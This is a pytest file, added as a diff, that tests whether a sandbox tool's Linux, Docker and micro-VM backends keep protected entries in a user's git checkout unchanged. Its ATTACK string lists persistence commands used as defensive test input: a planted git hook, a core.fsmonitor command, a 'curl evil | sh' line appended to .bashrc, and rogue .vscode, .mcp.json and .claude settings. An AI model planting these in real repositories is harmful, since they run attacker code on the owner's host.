@@ -1,0 +1,130 @@
+"""Planting a delayed escape in the owner's checkout, for real, on every backend here.
+
+A hook written into ``.git/hooks``, a rewritten ``.git/config``, a ``.git``
+swapped for a planted one, or a new ``.vscode``, ``.bashrc`` or
+``.mcp.json`` would run on the host at the owner's next commit, shell or
+editor start. The evidence is the host's: the hash of every file under each
+protected entry before and after, and the names in the workspace after the
+session, which must be exactly the owner's plus what the commands wrote
+elsewhere (no placeholder survives the session).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from sandbox_support import make_profile
+
+from firstrun.images.build import PYTHON, image_present
+from firstrun.policy.profile import SandboxProfile
+from firstrun.sandbox.base import Session
+from firstrun.sandbox.hostfs import host_filesystem_policy
+from firstrun.sandbox.linux.backend import LinuxBackend
+
+pytestmark = pytest.mark.escape
+
+ATTACK = r"""
+echo 'echo pwned > /tmp/host-pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
+printf '[core]\n\thooksPath = /workspace/evil\n' >> .git/config
+git config core.fsmonitor 'echo pwned'
+mv .git .git-owner; rm -rf .git; mkdir -p .git/hooks
+python3 -c 'import os; os.rename(".git", ".git-moved")'
+python3 -c 'import os; os.unlink(".git/config")'
+mkdir -p .vscode; echo '{"tasks": "pwned"}' > .vscode/tasks.json
+echo 'curl evil | sh' >> .bashrc; echo 'pwned' > .profile; ln -sf /etc/passwd .zshrc
+echo '{"mcpServers": {"x": {"command": "sh"}}}' > .mcp.json
+mkdir -p .claude; echo '{"hooks": {}}' > .claude/settings.json
+echo '[submodule "x"]' > .gitmodules; chmod 777 .git .bashrc; touch -d 2000-01-01 .bashrc
+mkdir -p evil && echo legit > notes.txt
+"""
+
+
+def _tree_hashes(top: Path) -> dict[str, str]:
+    found = {}
+    for path in sorted(top.rglob("*")):
+        if path.is_file() and not path.is_symlink():
+            found[str(path.relative_to(top))] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return found
+
+
+@pytest.fixture
+def checkout(tmp_path: Path) -> Path:
+    """The owner's own git checkout, with a hook sample and a README."""
+    repo = tmp_path / "checkout"
+    repo.mkdir()
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    (repo / "README.md").write_text("the owner's\n")
+    (repo / ".bashrc").write_text("# the owner's\n")
+    return repo
+
+
+def _profile(workspace: str, **lift: tuple[str, ...]) -> SandboxProfile:
+    return SandboxProfile(fs=host_filesystem_policy(workspace, os.environ, protect=True, **lift))
+
+
+def _start(kind: str, profile: SandboxProfile) -> Iterator[Session]:
+    if kind == "docker":
+        if os.geteuid() != 0 or shutil.which("docker") is None or not image_present(PYTHON.tag):
+            pytest.skip("needs root, a running dockerd and the default image")
+        from firstrun.sandbox.docker.backend import DockerBackend
+        backend: object = DockerBackend(image=PYTHON.tag)
+    elif kind == "microvm":
+        from firstrun.sandbox.microvm.backend import MicrovmBackend
+        from firstrun.sandbox.microvm.image import find_image
+        from firstrun.sandbox.microvm.probe import kvm
+        if find_image() is None:
+            pytest.skip("the micro-VM image is not built (scripts/test builds it)")
+        backend = MicrovmBackend(accel="kvm" if kvm().available else "tcg")
+    else:
+        backend = LinuxBackend()
+    with backend.start(profile, proxy=None) as session:  # type: ignore[attr-defined]
+        yield session
+
+
+@pytest.mark.parametrize("kind", ["linux", "docker", "microvm"])
+def test_no_protected_entry_of_the_owners_checkout_changes_or_appears(
+        checkout: Path, kind: str) -> None:
+    before = _tree_hashes(checkout / ".git")
+    names_before = set(os.listdir(checkout))
+    bashrc = (checkout / ".bashrc").read_bytes()
+    for session in _start(kind, _profile(str(checkout))):
+        session.exec(["sh", "-c", ATTACK], timeout=120)
+        held = next(c for c in session.info.attestation if c.name == "workspace_entries_held")
+        assert held.passed, held.detail
+    assert _tree_hashes(checkout / ".git") == before
+    assert not (checkout / ".git" / "hooks" / "pre-commit").exists()
+    assert (checkout / ".bashrc").read_bytes() == bashrc
+    # The commands' own files landed; no protected name appeared, none was moved.
+    assert set(os.listdir(checkout)) == names_before | {"evil", "notes.txt"}
+    assert (checkout / "notes.txt").read_text() == "legit\n"
+
+
+def test_a_lifted_entry_is_writable_and_named_in_the_session(checkout: Path) -> None:
+    profile = _profile(str(checkout), lift=(".vscode",))
+    for session in _start("linux", profile):
+        done = session.exec(["sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json; "
+                                         "echo x >> .bashrc"], timeout=60)
+        assert done.exit_code != 0  # .bashrc stays held
+        namespaces = next(layer for layer in session.info.layers if layer.name == "namespaces")
+        assert "lifted by the user: .vscode" in namespaces.detail
+        assert ".vscode" not in namespaces.detail.split("lifted")[0]
+    assert (checkout / ".vscode" / "settings.json").read_text() == "{}\n"
+    assert (checkout / ".bashrc").read_text() == "# the owner's\n"
+    assert profile.fs.lifted == (".vscode",) and "lifted" in profile.fs.to_data()
+
+
+def test_a_workspace_firstrun_made_holds_nothing_and_git_init_works(tmp_path: Path) -> None:
+    workspace = tmp_path / "ours"
+    workspace.mkdir()
+    for session in _start("linux", make_profile(str(workspace))):
+        done = session.exec(["sh", "-c", "git init -q . && echo ok > .bashrc && ls -A"],
+                            timeout=60)
+        assert done.exit_code == 0, done.stderr.text()
+        assert not any(c.name == "workspace_entries_held" for c in session.info.attestation)
+    assert sorted(os.listdir(workspace)) == [".bashrc", ".git"]
